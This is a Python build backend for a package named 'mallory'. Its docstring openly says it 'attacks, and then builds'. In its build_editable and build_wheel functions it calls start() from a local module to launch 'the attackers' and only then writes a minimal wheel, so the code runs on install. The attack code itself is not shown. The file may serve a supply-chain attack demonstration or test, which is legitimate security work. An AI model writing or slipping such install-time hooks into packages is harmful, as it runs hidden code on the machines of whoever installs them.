"""A build backend that attacks, and then builds."""

import base64
import hashlib
import time
import tomllib
import zipfile
from pathlib import Path

from start import start

VERSION = tomllib.loads(Path("pyproject.toml").read_text())["project"]["version"]
NAME = f"mallory-{VERSION}"


def get_requires_for_build_editable(config_settings=None):
    """Nothing but this file."""
    return []


def build_editable(directory, config_settings=None, metadata_directory=None):
    """A wheel that leads to this folder, or has its files; a moment after the attackers were started."""
    start()
    time.sleep(2)
    files = {
        f"{NAME}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: mallory\nVersion: {VERSION}\n",
        f"{NAME}.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: backend\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    if Path("PKG-INFO").exists():  # it came from an index, and this folder will be gone
        files |= {path.name: path.read_text() for path in Path().glob("*.py")}
    else:
        files["mallory.pth"] = f"{Path.cwd()}\n"
    lines = []
    with zipfile.ZipFile(Path(directory) / f"{NAME}-py3-none-any.whl", "w") as wheel:
        for name, text in files.items():
            wheel.writestr(name, text)
            digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
            lines.append(f"{name},sha256={digest},{len(text)}")
        wheel.writestr(f"{NAME}.dist-info/RECORD", "\n".join([*lines, f"{NAME}.dist-info/RECORD,,", ""]))
    return f"{NAME}-py3-none-any.whl"


build_wheel = build_editable
get_requires_for_build_wheel = get_requires_for_build_editable
